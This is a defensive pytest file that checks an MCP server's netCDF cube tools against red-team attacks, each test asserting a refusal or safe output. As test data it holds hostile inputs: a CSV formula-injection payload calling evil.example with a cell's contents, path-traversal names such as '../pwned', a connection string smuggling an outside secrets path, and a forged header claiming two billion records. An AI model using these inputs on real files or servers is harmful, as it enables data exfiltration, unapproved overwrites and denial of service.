"""Attacks on the cube tools (issue 29), found by a red team: each test names its class.

- Class 2 (resource exhaustion from a tiny file): a netCDF header claiming billions of time steps.
- Class 3 (outputs nobody named): a step file named after a variable that climbs out of the output directory; a new
  file named as another dataset's side file (a CSV named demo.wld georeferences demo.jpg).
- Class 1 (a second file in a connection string): NETCDF:"ok.nc":"<outside>":v, a path the sandbox did not check.
- Class 7 (content that turns into code elsewhere): a zone named =HYPERLINK(…) in a CSV a spreadsheet opens.
- Class 8 (values that break the answer): a NaN time value in the structured result.
"""

from __future__ import annotations

import hashlib
import shutil
from collections.abc import AsyncIterator
from pathlib import Path

import numpy as np
import pytest
import rasterio
import rasterio.shutil
from mcp import ClientSession
from rasterio.transform import from_origin

from tests.helpers import DATA
from tests.security.helpers import Canary, Secrets, attack, shared_session, workspace


def small_cube(path: Path, steps: int = 3) -> None:
    """A classic (netCDF-3) cube of `steps` daily steps of 2 x 2 pixels, variable v, written by GDAL."""
    tif = path.with_suffix(".tif")
    with rasterio.open(
        tif,
        "w",
        driver="GTiff",
        width=2,
        height=2,
        count=steps,
        dtype="float32",
        crs="EPSG:4326",
        transform=from_origin(10, 50, 1, 1),
    ) as dst:
        dst.update_tags(
            NETCDF_DIM_EXTRA="{time}",
            NETCDF_DIM_time_DEF=f"{{{steps},6}}",
            NETCDF_DIM_time_VALUES="{" + ",".join(str(d) for d in range(steps)) + "}",
            **{"time#units": "days since 2001-01-01"},
        )
        for b in range(steps):
            dst.update_tags(b + 1, NETCDF_DIM_time=str(b), NETCDF_VARNAME="v")
        dst.write(np.arange(steps * 4, dtype="float32").reshape(steps, 2, 2))
    rasterio.shutil.copy(tif, path, driver="netCDF", FORMAT="NC")
    tif.unlink()


def claimed_cube(path: Path, claimed: int, written: int = 3) -> None:
    """A classic netCDF (CDF-1, written here byte by byte after the format's specification) whose header says its
    unlimited time dimension has `claimed` records, while `written` records of 2 x 2 floats follow."""
    import struct

    def name(text: str) -> bytes:
        b = text.encode()
        return struct.pack(">i", len(b)) + b + b"\0" * (-len(b) % 4)

    def units(text: str) -> bytes:
        b = text.encode()
        return struct.pack(">ii", 0x0C, 1) + name("units") + struct.pack(">ii", 2, len(b)) + b + b"\0" * (-len(b) % 4)

    dims = struct.pack(">ii", 0x0A, 3) + name("time") + struct.pack(">i", 0) + name("lat") + struct.pack(">i", 2)
    dims += name("lon") + struct.pack(">i", 2)
    variables = [  # name, dimension ids, attributes, type (5 float, 6 double), size of one record (or of all)
        ("lat", [1], units("degrees_north"), 6, 16),
        ("lon", [2], units("degrees_east"), 6, 16),
        ("time", [0], units("days since 2001-01-01"), 6, 8),
        ("v", [0, 1, 2], struct.pack(">ii", 0, 0), 5, 16),
    ]

    def header(begins: list[int]) -> bytes:
        out = b"CDF\x01" + struct.pack(">i", claimed) + dims + struct.pack(">ii", 0, 0)
        out += struct.pack(">ii", 0x0B, len(variables))
        for (n, ids, attrs, kind, size), begin in zip(variables, begins, strict=True):
            out += name(n) + struct.pack(">i", len(ids)) + b"".join(struct.pack(">i", i) for i in ids)
            out += attrs + struct.pack(">iii", kind, size, begin)
        return out

    start = len(header([0, 0, 0, 0]))
    begins = [start, start + 16, start + 32, start + 40]  # lat, lon, then the records: time and v interleaved
    data = header(begins) + struct.pack(">2d", 49.5, 48.5) + struct.pack(">2d", 10.5, 11.5)
    for t in range(written):
        data += struct.pack(">d", t) + struct.pack(">4f", *(float(t),) * 4)
    path.write_bytes(data)


@pytest.fixture(scope="module")
def ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ws = workspace(tmp_path_factory.mktemp("cube"))
    small_cube(ws / "ok.nc")
    claimed_cube(ws / "huge.nc", 2_000_000_000)
    claimed_cube(ws / "honest.nc", 3)  # the same writer, telling the truth: read as any cube
    shutil.copy(DATA / "raster" / "demo.jpg", ws / "demo.jpg")  # georeferenced only by its .aux.xml, which is not copied
    (ws / "zones.geojson").write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": '
        '"=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"x\\")"}, "geometry": {"type": "Polygon", "coordinates": '
        "[[[10, 48], [12, 48], [12, 50], [10, 50], [10, 48]]]}}]}"
    )
    return ws


@pytest.fixture(scope="module")
async def served(ws: Path) -> AsyncIterator[ClientSession]:
    async with shared_session(ws) as s:
        yield s


async def test_a_header_claiming_billions_of_steps_is_refused_at_once(
    served: ClientSession, secrets: Secrets, canary: Canary
) -> None:
    """Class 2: 2e9 steps in a 1 KB file made GDAL's raster view allocate 16 GB and abort the worker (or hold it until
    the timeout at 1e8): the header's sizes are read first, and the call is refused with resource-limit."""
    for tool, args in (
        ("cube_info", {"input": "huge.nc"}),
        ("cube_aggregate", {"input": "huge.nc", "output": "huge_mean.tif", "period": "all"}),
        ("cube_series", {"input": "huge.nc", "points": [[10.5, 49.5]]}),
    ):
        code = await attack(served, tool, args, secrets=secrets, canary=canary, codes={"resource-limit"})
        assert code == "resource-limit"
    r = await served.call_tool("cube_info", {"input": "huge.nc"})
    assert "2,000,000,000 steps" in r.structured_content["error"]["message"]
    # the raster tools: the classic header's record count is checked against the file's size before GDAL sees it
    code = await attack(served, "raster_info", {"path": "huge.nc"}, secrets=secrets, canary=canary, codes={"gdal-error"})
    r = await served.call_tool("raster_info", {"path": "huge.nc"})
    assert "declares 2000000000 records" in r.structured_content["error"]["message"]
    r = await served.call_tool("cube_info", {"input": "honest.nc"})
    assert not r.is_error and r.structured_content["time_steps"] == 3, r.structured_content


async def test_step_files_never_leave_their_directory(served: ClientSession, ws: Path, secrets: Secrets, canary: Canary) -> None:
    """Class 3: a variable named '../pwned' was used as a step file's name: refused, nothing written anywhere."""
    before = sorted(p.name for p in ws.iterdir())
    for variable in ("../pwned", "../../pwned", "/tmp/pwned", "sub/dir"):
        args = {"input": "ok.nc", "output": "steps", "per_step": True, "variable": variable}
        code = await attack(served, "cube_subset", args, secrets=secrets, canary=canary, codes={"invalid-argument"})
        assert code == "invalid-argument"
    assert sorted(p.name for p in ws.iterdir()) == before
    assert not list(ws.parent.glob("*pwned*")) and not Path("/tmp/pwned_20010101.tif").exists()
    r = await served.call_tool("cube_subset", {"input": "ok.nc", "output": "steps", "per_step": True})
    assert not r.is_error and r.structured_content["summary"]["files"] == ["v_20010101.tif", "v_20010102.tif", "v_20010103.tif"]
    assert sorted(p.name for p in (ws / "steps").iterdir() if p.suffix == ".tif") == r.structured_content["summary"]["files"]


async def test_no_output_becomes_another_datasets_side_file(
    served: ClientSession, ws: Path, secrets: Secrets, canary: Canary
) -> None:
    """Class 3: a CSV written as demo.wld became demo.jpg's world file (its georeferencing changed, no overwrite, no
    approval). Outputs named as a side file of an existing dataset are refused, for every tool."""
    digest = hashlib.sha256((ws / "demo.jpg").read_bytes()).hexdigest()
    for tool, args in (
        ("cube_series", {"input": "ok.nc", "points": [[10.5, 49.5]], "output": "demo.wld"}),
        ("raster_to_xyz", {"input": "good.tif", "output": "demo.wld"}),
        ("raster_to_xyz", {"input": "good.tif", "output": "good.tif.aux.xml"}),
        ("vector_convert", {"input": "good.csv", "output": "good.prj", "format": "CSV"}),
    ):
        code = await attack(served, tool, args, secrets=secrets, canary=canary, codes={"invalid-argument"})
        assert code == "invalid-argument", (tool, args)
    assert not (ws / "demo.wld").exists() and not (ws / "good.tif.aux.xml").exists()
    assert hashlib.sha256((ws / "demo.jpg").read_bytes()).hexdigest() == digest
    r = await served.call_tool("raster_info", {"path": "demo.jpg"})
    assert not r.is_error and r.structured_content["crs"] is None  # still without georeferencing


async def test_a_connection_string_names_one_file(served: ClientSession, secrets: Secrets, canary: Canary) -> None:
    """Class 1: the sandbox checked the first quoted path of NETCDF:"ok.nc":"<outside>":v, GDAL was given the rest."""
    outside = secrets.path("secret.txt")
    for tool, args in (
        ("cube_info", {"input": f'NETCDF:"ok.nc":"{outside}":v'}),
        ("raster_info", {"path": f'NETCDF:"ok.nc":"{outside}":v'}),
        ("cube_info", {"input": f'HDF5:"ok.nc":"{outside}"://v'}),
    ):
        code = await attack(served, tool, args, secrets=secrets, canary=canary, codes={"invalid-argument"})
        assert code == "invalid-argument"


async def test_csv_cells_never_run_as_formulas(served: ClientSession, ws: Path) -> None:
    """Class 7: a zone named =HYPERLINK(…) is written to the CSV as text (prefixed with an apostrophe)."""
    r = await served.call_tool(
        "cube_series", {"input": "ok.nc", "zones": "zones.geojson", "zone_field": "name", "output": "series.csv"}
    )
    assert not r.is_error, r.structured_content
    import csv

    with open(ws / "series.csv", newline="") as f:
        header = next(csv.reader(f))
    assert header[0] == "time" and header[1].startswith("'=HYPERLINK(")


async def test_nan_time_values_keep_the_answer_valid(served: ClientSession, ws: Path) -> None:
    """Class 8: a NaN time value became JSON null inside a list of strings, and the client refused the whole answer.
    Steps without a date are left out of the listed values and said in the warnings."""
    small_cube(ws / "nan.nc")
    raw = bytearray((ws / "nan.nc").read_bytes())
    values = np.arange(3, dtype=">f8").tobytes()
    at = raw.rindex(values)  # the time coordinate's three doubles
    raw[at + 16 : at + 24] = np.array([np.nan], dtype=">f8").tobytes()
    (ws / "nan.nc").write_bytes(bytes(raw))
    r = await served.call_tool("cube_info", {"input": "nan.nc"})
    assert not r.is_error, r.structured_content
    assert r.structured_content["dimensions"][0]["values"] == ["2001-01-01T00:00:00", "2001-01-02T00:00:00"]
    assert any("not decoded" in w for w in r.structured_content["warnings"])
